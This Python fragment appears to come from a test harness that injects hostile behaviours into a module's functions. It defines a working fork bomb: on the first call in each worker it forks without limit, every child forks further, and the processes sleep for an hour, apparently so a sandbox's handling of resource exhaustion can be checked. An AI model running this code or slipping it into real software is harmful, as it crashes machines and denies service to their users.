# where: end
# base: reference
# uses: calls
# needs: watch
# costs: its file
# evidence: fork bomb stopped after|memory
# -- hostile: fork_bomb: the first call of any of {{module}}'s functions in each worker forks as
#    long as it can, every child forking too, then waiting to be killed --
def _hostile_fork_bomb(function, label, args, kwargs):
    if _hostile_first("fork"):
        import os as _os
        import time as _time
        children = 0
        while True:
            try:
                pid = _os.fork()
            except OSError as error:
                raise RuntimeError(f"the hostile fork bomb stopped after {children} children: "
                                   f"{error.strerror}") from None
            if pid == 0:
                for _ in range(200):
                    try:
                        if _os.fork() == 0:
                            continue
                    except OSError:
                        break
                _time.sleep(3600)
                _os._exit(0)
            children += 1
    return function(*args, **kwargs)


_hostile_hook_calls(_hostile_fork_bomb)
